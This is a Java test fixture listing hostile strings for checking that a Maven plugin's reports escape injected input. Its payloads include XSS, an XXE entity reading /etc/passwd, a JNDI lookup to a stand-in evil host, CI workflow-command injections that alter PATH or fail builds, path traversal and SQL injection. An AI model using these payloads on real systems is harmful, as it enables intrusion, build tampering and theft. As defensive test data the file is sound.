package io.messagecontract.maven.format;

import java.util.List;

/** Names that try to be something else in some report. */
public final class HostileNames {

  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "x\n::error file=a::b",
          "\r\n##[error]x\r##vso[task.complete result=Failed]\u2028::warning::x",
          "::error::x",
          "\u00a0\u2003::set-env name=a::b",
          "a ##vso[task.setvariable variable=PATH]/tmp ##VSO[x]",
          "a ##[add-mask]e ###[x]",
          "a ##teamcity[publishArtifacts 'x']",
          "\u001b[2J\u009b31m\u0007\u007f",
          "a|b\\|c\\\\|d|",
          "`code` ``two`` ```\nfence\n````",
          "`",
          "]]><failure/>",
          "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
          "\ufffe\uffff",
          "nul\0nul",
          "\ud800 lone \udc00",
          "\u202egnp.exe\u2066",
          "long ".repeat(60),
          "😀".repeat(300),
          "../../x",
          "/etc/passwd",
          "%0A::error::x%25",
          "a:b,c=d::e",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "[click](javascript:alert(1)) ![p](https://evil.example/x.png)",
          "https://evil.example www.evil.example me@evil.example @octocat #1",
          "<https://evil.example>",
          "${jndi:ldap://evil.example/a}",
          "{0} {1}",
          "%s%n",
          "# heading\n\n* item\n\n---\n\n    code",
          "</details></summary>",
          "*a* _b_ ~~c~~ $$d$$ \\",
          "'; DROP TABLE x; --");

  private HostileNames() {}
}
